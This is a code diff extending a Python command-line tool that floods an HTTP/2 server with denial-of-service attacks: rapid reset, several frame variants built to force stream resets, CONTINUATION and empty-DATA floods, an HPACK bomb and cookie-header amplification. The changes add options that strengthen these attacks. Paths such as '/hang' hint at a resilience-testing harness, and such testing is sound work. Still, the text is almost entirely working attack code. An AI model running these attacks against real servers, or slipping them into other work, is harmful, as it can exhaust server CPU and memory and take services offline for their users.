@@ -52,9 +52,12 @@ CANCEL = 0x8
 class Conn:
     """A client connection: writes frames, and a reader thread that records what comes back."""
 
-    def __init__(self, host, port, authority, deadline):
+    def __init__(self, host, port, authority, deadline, read=True):
         self.sock = socket.create_connection((host, port), timeout=10)
-        self.sock.settimeout(None)
+        # Without a reader, a write the server no longer drains times out: the server has
+        # stopped reading (backpressure), which is what the report's `blocked` says.
+        self.sock.settimeout(None if read else 3)
+        self.blocked = False
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.authority = authority
         self.deadline = deadline
@@ -71,8 +74,8 @@ class Conn:
         # A large window: the server's responses never wait on this client.
         self.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: (1 << 31) - 1}))
         self.send(WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65535))
-        self.reader = threading.Thread(target=self.read_loop, daemon=True)
-        self.reader.start()
+        if read:
+            threading.Thread(target=self.read_loop, daemon=True).start()
 
     def stopped(self):
         return self.closed or self.goaway is not None or time.monotonic() > self.deadline
@@ -95,12 +98,16 @@ class Conn:
             ]
             + list(extra)
         )
-        frame = HeadersFrame(stream_id, data=block)
-        if end_headers:
-            frame.flags.add("END_HEADERS")
+        # Split at the default SETTINGS_MAX_FRAME_SIZE: HEADERS, then CONTINUATION frames.
+        limit = 16384
+        chunks = [block[i : i + limit] for i in range(0, len(block), limit)] or [b""]
+        frames = [HeadersFrame(stream_id, data=chunks[0])]
+        frames += [ContinuationFrame(stream_id, data=c) for c in chunks[1:]]
         if end_stream:
-            frame.flags.add("END_STREAM")
-        return frame
+            frames[0].flags.add("END_STREAM")
+        if end_headers:
+            frames[-1].flags.add("END_HEADERS")
+        return frames
 
     def read_loop(self):
         buf = b""
@@ -160,6 +167,8 @@ class Conn:
                     "seconds": round(time.monotonic() - started, 3),
                     "frames_received": self.received,
                     "statuses": self.statuses,
+                    "blocked": self.blocked,
+                    "cpu_seconds": round(time.process_time(), 3),
                 }
             ),
             flush=True,
@@ -176,6 +185,8 @@ def loop(conn, batch, step):
                 frames.extend(step(units))
                 units += 1
             conn.send(*frames)
+    except socket.timeout:
+        conn.blocked = True
     except OSError:
         pass
     return units
@@ -188,7 +199,7 @@ def rapid_reset(conn, path, spacing):
         try:
             while not conn.stopped():
                 sid = 2 * units + 1
-                conn.send(conn.headers(sid, path))
+                conn.send(*conn.headers(sid, path))
                 time.sleep(spacing)
                 conn.send(RstStreamFrame(sid, error_code=CANCEL))
                 units += 1
@@ -198,34 +209,66 @@ def rapid_reset(conn, path, spacing):
 
     def step(i):
         sid = 2 * i + 1
-        return [conn.headers(sid, path), RstStreamFrame(sid, error_code=CANCEL)]
+        return conn.headers(sid, path) + [RstStreamFrame(sid, error_code=CANCEL)]
 
     return loop(conn, 50, step)
 
 
-def made_you_reset(conn, path):
+def made_you_reset(conn, path, spacing, variant):
+    """Frames the server must answer with a reset of the stream, after a request that is on its
+    way upstream. RFC 9113 makes the first two stream errors; h2 ends the whole connection for
+    them (PROTOCOL_ERROR). The last two are stream errors in h2 too."""
+    variants = {
+        "both": ["overflow", "length"],
+        "window": ["window"],
+        "data": ["data"],
+        "overflow": ["overflow"],
+        "length": ["length"],
+    }[variant]
+
     def step(i):
         sid = 2 * i + 1
-        if i % 2 == 0:
-            # A request still open, then a zero WINDOW_UPDATE on it: a stream error for the
-            # server to reset (RFC 9113 6.9), not a reset the client sent.
-            return [
-                conn.headers(sid, path, end_stream=False),
-                WindowUpdateFrame(sid, window_increment=0),
+        kind = variants[i % len(variants)]
+        if kind == "window":
+            # A zero WINDOW_UPDATE on an open stream (RFC 9113 6.9).
+            return conn.headers(sid, path, end_stream=False) + [
+                WindowUpdateFrame(sid, window_increment=0)
             ]
-        # A complete request, then DATA after its END_STREAM: STREAM_CLOSED (RFC 9113 5.1).
-        return [conn.headers(sid, path), DataFrame(sid, data=b"x")]
+        if kind == "data":
+            # DATA after END_STREAM: STREAM_CLOSED (RFC 9113 5.1).
+            return conn.headers(sid, path) + [DataFrame(sid, data=b"x")]
+        if kind == "overflow":
+            # The stream's send window is already 2^31-1 (this client's SETTINGS): one more
+            # byte overflows it, FLOW_CONTROL_ERROR on the stream (RFC 9113 6.9.1).
+            return conn.headers(sid, path, end_stream=False) + [
+                WindowUpdateFrame(sid, window_increment=1)
+            ]
+        # More DATA than the request's content-length: malformed (RFC 9113 8.1.1).
+        frames = conn.headers(sid, path, end_stream=False, extra=[("content-length", "1")])
+        return frames + [DataFrame(sid, data=b"xx", flags=["END_STREAM"])]
 
+    if spacing > 0:
+        # Each stream's request on its way upstream before the frame that gets it reset.
+        units = 0
+        try:
+            while not conn.stopped():
+                frames = step(units)
+                conn.send(*frames[:-1])
+                time.sleep(spacing)
+                conn.send(frames[-1])
+                units += 1
+        except OSError:
+            pass
+        return units
     return loop(conn, 20, step)
 
 
 def continuation(conn, path):
-    first = conn.headers(1, path, end_headers=False)
-    conn.send(first)
+    conn.send(*conn.headers(1, path, end_headers=False))
     # Fresh literal headers, never indexed: each frame is a new 1 KiB header for the server to
     # decode and hold.
     def step(i):
-        block = hpack.Encoder().encode([("x-flood-%d" % i, "v" * 1000)], sensitive=False)
+        block = hpack.Encoder().encode([("x-flood-%d" % i, "v" * 1000, True)])
         return [ContinuationFrame(1, data=block)]
 
     return loop(conn, 16, step)
@@ -239,8 +282,7 @@ def hpack_bomb(conn, path):
         while not conn.stopped():
             # The first block puts the header in the dynamic table; the encoder then sends
             # each repetition as a one-byte index.
-            frame = conn.headers(sid, path, extra=[big] * 1000)
-            conn.send(frame)
+            conn.send(*conn.headers(sid, path, extra=[big] * 1000))
             units += 1
             sid += 2
     except OSError:
@@ -248,13 +290,15 @@ def hpack_bomb(conn, path):
     return units
 
 
-def cookie_crumbs(conn, path, crumbs, size):
+def cookie_crumbs(conn, path, crumbs, size, same):
     units = 0
     sid = 1
     try:
         while not conn.stopped() and units < 50:
-            extra = [("cookie", "c%d=%s" % (i, "k" * size)) for i in range(crumbs)]
-            conn.send(conn.headers(sid, path, extra=extra))
+            # With `same`, every crumb is the same: HPACK sends it once and then as a one-byte
+            # index, so the joined cookie is many times what crossed the wire.
+            extra = [("cookie", "c%d=%s" % (0 if same else i, "k" * size)) for i in range(crumbs)]
+            conn.send(*conn.headers(sid, path, extra=extra))
             units += 1
             sid += 2
             time.sleep(0.01)
@@ -264,7 +308,7 @@ def cookie_crumbs(conn, path, crumbs, size):
 
 
 def empty_data(conn, path):
-    conn.send(conn.headers(1, path, end_stream=False))
+    conn.send(*conn.headers(1, path, end_stream=False))
     return loop(conn, 100, lambda i: [DataFrame(1, data=b"")])
 
 
@@ -280,18 +324,18 @@ def settings(conn):
 
 def run(attack, host, port, authority, deadline, args):
     started = time.monotonic()
-    conn = Conn(host, port, authority, deadline)
+    conn = Conn(host, port, authority, deadline, read=not args.no_read)
     path = "/hang"
     if attack == "rapid-reset":
         units = rapid_reset(conn, path, args.spacing)
     elif attack == "made-you-reset":
-        units = made_you_reset(conn, path)
+        units = made_you_reset(conn, path, args.spacing, args.variant)
     elif attack == "continuation":
         units = continuation(conn, path)
     elif attack == "hpack-bomb":
         units = hpack_bomb(conn, "/bomb")
     elif attack == "cookie-crumbs":
-        units = cookie_crumbs(conn, "/cookies", args.crumbs, args.size)
+        units = cookie_crumbs(conn, "/cookies", args.crumbs, args.size, args.same)
     elif attack == "empty-data":
         units = empty_data(conn, path)
     elif attack == "ping":
@@ -312,8 +356,18 @@ def main():
         "--repeat", action="store_true", help="a new connection each time one is stopped"
     )
     parser.add_argument(
-        "--spacing", type=float, default=0.0, help="rapid-reset: seconds between HEADERS and RST"
+        "--spacing", type=float, default=0.0, help="rapid-reset, made-you-reset: seconds between a request and its reset"
     )
+    parser.add_argument(
+        "--variant",
+        choices=["window", "data", "overflow", "length", "both"],
+        default="both",
+        help="made-you-reset: which frame gets the stream reset (both: overflow and length in turn)",
+    )
+    parser.add_argument(
+        "--no-read", action="store_true", help="never read what the server sends"
+    )
+    parser.add_argument("--same", action="store_true", help="cookie-crumbs: all alike")
     parser.add_argument("--crumbs", type=int, default=200)
     parser.add_argument("--size", type=int, default=100)
     args = parser.parse_args()
